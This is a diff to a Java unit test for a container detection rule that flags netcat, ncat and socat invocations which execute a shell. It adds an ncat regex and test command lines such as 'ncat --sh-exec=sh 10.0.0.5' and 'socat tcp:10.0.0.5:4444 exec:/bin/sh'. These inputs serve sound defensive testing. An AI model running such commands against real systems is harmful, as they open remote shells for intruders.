@@ -20,6 +20,7 @@ class HostileCommandLineTest {
     /** The rule's regexes as they were before the pre-checks, run through the engine CEL itself uses. */
     private static final Pattern OPTION = Pattern.compile("\\s-[a-zA-Z]*[ec](\\s|$)");
     private static final Pattern SOCAT = Pattern.compile("(?i)\\s(exec|system):");
+    private static final Pattern NCAT = Pattern.compile("\\s--(sh-|lua-)?exec(=|\\s|$)");
 
     /**
      * 64 KiB of the filler as /proc would show it: valid UTF-8 decoded, every other byte as the
@@ -66,6 +67,8 @@ class HostileCommandLineTest {
         "nc x-e y",
         "nc -l -p 4444",
         "nc --exec sh",
+        "ncat --sh-exec=sh 10.0.0.5",
+        "ncat --executable",
         "socat tcp:10.0.0.5:4444 exec:/bin/sh",
         "socat tcp:10.0.0.5:4444\tSYSTEM:sh",
         "socat tcp-listen:4444 exec",
@@ -73,7 +76,8 @@ class HostileCommandLineTest {
         "nc -e:",
     })
     void thePreChecksDecideAsTheRegexesAlone(String cmdline) {
-        boolean regexes = OPTION.matcher(cmdline).find() || SOCAT.matcher(cmdline).find();
+        boolean regexes = OPTION.matcher(cmdline).find() || SOCAT.matcher(cmdline).find()
+            || NCAT.matcher(cmdline).find();
         assertEquals(regexes ? List.of("netcat_program_exec_in_container") : List.of(), fired(cmdline), cmdline);
     }
 }
